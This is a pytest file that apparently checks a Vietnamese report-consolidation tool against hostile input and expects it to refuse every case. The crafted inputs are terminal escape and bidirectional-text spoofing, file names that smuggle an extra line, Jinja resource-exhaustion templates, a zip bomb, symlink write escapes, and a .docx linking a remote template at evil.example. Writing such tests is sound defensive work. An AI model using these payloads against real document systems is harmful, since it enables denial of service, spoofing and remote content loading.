"""Hostile and broken input, round two: each class with cases of its own, through the
installed command, bounded in time: the exit status, no traceback, the message, and nothing
changed inside the root (beyond what the command is for) or outside it."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT, received_report, write
from test_bad_inputs import run

DAY = ("--as-of", "2026-11-29")
HEAD = (
    "schema_version: 1\nagency: SYT\nperiod: 2026-H2\nnumber: 1/BC\ndate: 2026-11-10\n"
    "received: 2026-11-12\ntasks:\n  - task: III.7\n    state: in_progress\n"
)
R = "reports/2026-H2/SYT.yaml"


def _tree(root: Path) -> dict[str, str]:
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_file() and not p.is_symlink():
            out[p.relative_to(root).as_posix()] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


@pytest.fixture
def guarded_root(ws_root: Path, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """The workspace and a folder beside it; each test says what may change."""
    outside = tmp_path_factory.mktemp("outside")
    write(outside / "keep.txt", "untouched\n")
    before = _tree(outside)
    yield ws_root, outside
    assert _tree(outside) == before  # nothing written outside the root, ever


def _validate_refuses(root: Path, body: bytes, code: str, place: str) -> None:
    path = root / R
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(body)
    before = _tree(root)
    r = run("validate", "--root", root, *DAY, timeout=30)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "Traceback" not in r.stderr and "lỗi không mong đợi" not in r.stderr
    assert f"{R}:{place}: error[{code}]" in r.stdout, r.stdout
    for other in ("status", "merge"):
        s = run(other, *(["2026-H2"] if other == "merge" else []), "--root", root, *DAY)
        assert s.returncode == 1 and "Traceback" not in s.stderr, (other, s.stderr)
    assert _tree(root) == before  # refused: nothing written


# ------------------------------------------------------------------ silent loss


@pytest.mark.parametrize(
    ("body", "code", "place"),
    [
        (HEAD.encode() + "    done: a\ufffeb\n".encode(), "E012", "10:12"),  # raw non-character
        (HEAD.encode() + b'    done: "a\\uFFFFb"\n', "E012", "10:11"),  # escaped
        (HEAD.encode() + "difficulties: !!null thiếu kinh phí\n".encode(), "E008", "10:15"),
        (HEAD.encode() + b"proposals: !!binary aGVsbG8=\n", "E008", "10:12"),
        (HEAD.encode() + b"difficulties: !!int abc\n", "E008", "10:15"),
        (HEAD.encode() + b"difficulties: !!float 1,5\n", "E008", "10:15"),
        (HEAD.encode() + b"difficulties: " + b"9" * 5000 + b"\n", "E014", "10:15"),
    ],
    ids=["fffe", "ffff-escaped", "null-tag", "binary-tag", "int-tag", "float-tag", "5000-digits"],
)
def test_no_text_is_lost_in_silence(guarded_root, body: bytes, code: str, place: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    _validate_refuses(root, body, code, place)


def test_what_validate_accepts_survives_merge_and_render(guarded_root, cli) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    strange = (
        "Kết quả: “ngoặc kép” ‘đơn’ & <w:p> </w:t> 50% — 1/2 ½ ✓ 𝔸 🧬 đã hoàn thành; "
        + "dài " * 20000
    ).strip()
    write(root / R, HEAD + f"    done: {json.dumps(strange, ensure_ascii=False)}\n")
    from conftest import filled_clerk

    filled_clerk(root, "2026-H2")
    v = run("validate", "--root", root, *DAY)
    assert v.returncode == 0, v.stdout
    assert run("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    merged = (root / "reports/2026-H2/_tong_hop.yaml").read_text(encoding="utf-8")
    import yaml

    data = yaml.safe_load(merged)
    done = next(t for t in data["tasks"] if t["task"] == "III.7")["lead"]["done"]
    assert done == strange  # byte for byte through the consolidation
    r = run("render", "2026-H2", "--root", root, *DAY, timeout=120)
    assert r.returncode == 0, r.stderr
    from docx import Document

    doc = Document(str(next((root / "reports").glob("*.docx"))))
    body = "\n".join(p.text for p in doc.paragraphs)
    assert strange[:200] in body and strange[-200:] in body


# ------------------------------------------------------------------ spoofing


@pytest.mark.parametrize(
    ("body", "place"),
    [
        (HEAD.encode() + "    done: a\u202eb\n".encode(), "10:12"),  # raw right-to-left override
        (HEAD.encode() + b'    done: "a\\u2066b"\n', "10:11"),  # escaped isolate
        (HEAD.encode() + b'    done: "\\e[2J\\e]2;x\\a"\n', "10:11"),  # terminal escapes
        (HEAD.encode() + b'difficulties: "\\x9b31m"\n', "10:15"),  # 8-bit CSI
    ],
    ids=["rlo-raw", "isolate-escaped", "esc-escaped", "csi"],
)
def test_no_spoofed_or_hidden_text(guarded_root, body: bytes, place: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    _validate_refuses(root, body, "E012", place)


@pytest.mark.parametrize("name", ["2026-H2\nkhông có lỗi nào", "2026-H2\x1b[2J"])
def test_a_file_name_cannot_pass_for_a_line(guarded_root, name: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    write(root / "reports" / name / "SYT.yaml", "schema_version: 1\nagency: SYT\nperiod: 2026-H2\n")
    r = run("validate", "--root", root, *DAY)
    lines = r.stdout.splitlines()
    assert all("\x1b" not in line for line in lines)
    assert not any(line.startswith("không có lỗi nào") for line in lines), lines
    assert any("\\n" in line or "\\u001b" in line for line in lines), lines


def test_cr_only_lines_are_counted_as_yaml_counts_them(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    body = HEAD.replace("\n", "\r").encode() + b"difficulties: a\x01b\r"
    _validate_refuses(root, body, "E012", "10:16")


# ------------------------------------------------------------------ templates


def _template(kind: str, out: Path) -> Path:
    from docx import Document

    doc = Document()
    texts = {
        "range": "{% for x in range(10**9) %}x{% endfor %}",
        "nested": "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}"
        "{% endfor %}",
        "repeat": "{{ 'x' * 10**9 }}",
        "power": "{{ 10 ** 100000000 }}",
    }
    doc.add_paragraph(texts.get(kind, "x"))
    buffer = io.BytesIO()
    doc.save(buffer)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src:
            for info in src.infolist():
                data = src.read(info)
                if kind == "paragraphs" and info.filename == "word/document.xml":
                    data = data.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 600_000)
                if kind == "external" and info.filename == "word/_rels/document.xml.rels":
                    data = data.replace(
                        b"</Relationships>",
                        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                        b'officeDocument/2006/relationships/attachedTemplate"'
                        b' Target="http://evil.example/t.dotm" TargetMode="External"/>'
                        b"</Relationships>",
                    )
                z.writestr(info, data)
        if kind == "bomb":
            z.writestr("word/media/big.bin", b"\0" * 150_000_000)
    return out


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("range", "Range too big"),
        ("nested", "chạy quá 3 giây"),
        ("repeat", "'*' tạo giá trị dài quá"),
        ("power", "'**' với số mũ quá lớn"),
        ("bomb", "có thể là tệp nén bom"),
        ("paragraphs", "phần tử XML"),
        ("external", "http://evil.example/t.dotm"),
    ],
)
def test_templates_are_held_to_budgets(guarded_root, cli, kind: str, said: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    shutil.copytree(ROOT / "examples/demo/reports/2026-H2", root / "reports/2026-H2")
    assert run("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    tpl = _template(kind, root / "templates" / f"{kind}.docx")
    before = _tree(root)
    out = root / "reports/out.docx"
    r = subprocess_run(
        "render", "2026-H2", "--root", root, *DAY, "--template", tpl, "-o", out, seconds="3"
    )
    assert r.returncode == 1, r.stdout + r.stderr
    assert said in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert not out.exists() and _tree(root) == before


def subprocess_run(*args: str | Path, seconds: str) -> object:
    import subprocess

    from test_bad_inputs import KH121

    return subprocess.run(
        [KH121, *map(str, args)],
        capture_output=True,
        text=True,
        timeout=60,
        env={
            "PATH": "/usr/bin:/bin",
            "LANG": "C.UTF-8",
            "KH121_RENDER_SECONDS": seconds,
        },
    )


# ------------------------------------------------------------------ writes stay inside


def test_report_new_refuses_a_period_folder_outside(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, outside = guarded_root
    (root / "reports/2026-H2").symlink_to(outside, target_is_directory=True)
    r = run("report", "new", "SYT", "--period", "2026-H2", "--root", root)
    assert r.returncode == 1 and "ra ngoài thư mục gốc" in r.stderr, r.stderr


def test_render_refuses_a_default_output_outside(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, outside = guarded_root
    shutil.copytree(ROOT / "examples/demo/reports", outside / "reports")
    (outside / "keep.txt").write_text("untouched\n", encoding="utf-8")
    shutil.rmtree(root / "reports")
    (root / "reports").symlink_to(outside / "reports", target_is_directory=True)
    r = run("merge", "2026-H2", "--root", root, *DAY)
    assert r.returncode == 1 and "ra ngoài thư mục gốc" in r.stderr, r.stderr
    shutil.rmtree(outside / "reports")  # the fixture checks only keep.txt stayed


# ------------------------------------------------------------------ the machine's failures


def test_the_machines_failures_in_plain_words(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    shutil.copytree(ROOT / "examples/demo/reports/2026-H2", root / "reports/2026-H2")
    (root / "reports/2026-H2/_tong_hop.yaml").unlink()
    (root / "reports/2026-H2/_tong_hop.yaml").mkdir()
    r = run("merge", "2026-H2", "--root", root, *DAY)
    assert r.returncode == 1 and "đây là thư mục, cần một tệp" in r.stderr, r.stderr
    (root / "reports/2026-H2/_tong_hop.yaml").rmdir()
    assert run("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    r = run("render", "2026-H2", "--root", root, *DAY, "-o", root / "templates")
    assert r.returncode == 1 and "đây là thư mục" in r.stderr, r.stderr
    r = run("textconv", root / "nope.yaml")
    assert r.returncode == 1 and "không có tệp hay thư mục này" in r.stderr, r.stderr
    shutil.rmtree(root / "reports")
    write(root / "reports", "a file where the folder belongs\n")
    r = run("status", "--root", root, *DAY)
    assert r.returncode == 1 and "cần thư mục" in r.stderr, r.stderr
    (root / "reports").unlink()
    shutil.rmtree(root / "data/tasks.yaml", ignore_errors=True)
    (root / "data/tasks.yaml").unlink()
    (root / "data/tasks.yaml").mkdir()
    r = run("status", "--root", root, *DAY)
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert "lỗi không mong đợi" not in r.stdout + r.stderr


# ------------------------------------------------------------------ regular files, sane values


def test_a_fifo_template_or_data_file_never_hangs(guarded_root) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    os.mkfifo(root / "templates/fifo.docx")
    write(root / R, received_report(root, "SYT", "2026-H2", "2026-11-12", ""))
    assert run("merge", "2026-H2", "--root", root, *DAY).returncode == 0
    r = run("render", "2026-H2", "--root", root, *DAY, "--template", root / "templates/fifo.docx")
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    (root / "data/calendar.yaml").unlink()
    os.mkfifo(root / "data/calendar.yaml")
    r = run("status", "--root", root, *DAY, timeout=30)
    assert r.returncode == 1 and "E013" in r.stdout + r.stderr


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_dates_are_bounded_before_anything_computes(guarded_root, day: str) -> None:  # type: ignore[no-untyped-def]
    root, _outside = guarded_root
    cal = root / "data/calendar.yaml"
    write(cal, cal.read_text(encoding="utf-8") + f"  - date: {day}\n    name: x\n")
    r = run("validate", "--root", root, *DAY)
    assert r.returncode == 1 and "năm phải từ 1900 đến 2200" in r.stdout, r.stdout
    s = run("status", "--root", root, *DAY)
    assert s.returncode == 1 and "Traceback" not in s.stderr
